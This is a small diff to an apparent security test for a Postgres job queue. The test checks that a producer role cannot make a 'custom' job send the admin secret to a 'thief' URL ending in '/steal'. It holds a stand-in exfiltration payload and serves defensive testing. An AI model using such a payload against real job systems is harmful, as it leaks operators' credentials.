@@ -195,6 +195,9 @@ async def test_producer_role_cannot_send_the_admin_secret_to_its_own_url(
 ) -> None:
     payload = json.dumps({"action": "x", "url": thief.url("/steal")})
     with psycopg.connect(db_url, autocommit=True) as conn:
+        # By default producers may not enqueue `custom` at all; an operator who lets
+        # them must still not leak the headers.
+        conn.execute("UPDATE pgjobs_settings SET producer_types = ARRAY['custom']")
         conn.execute("SET ROLE pgjobs_producer")
         row = conn.execute(
             "SELECT id FROM pgjobs_enqueue('custom', %s, '{\"queue\": \"xq\"}')", (payload,)
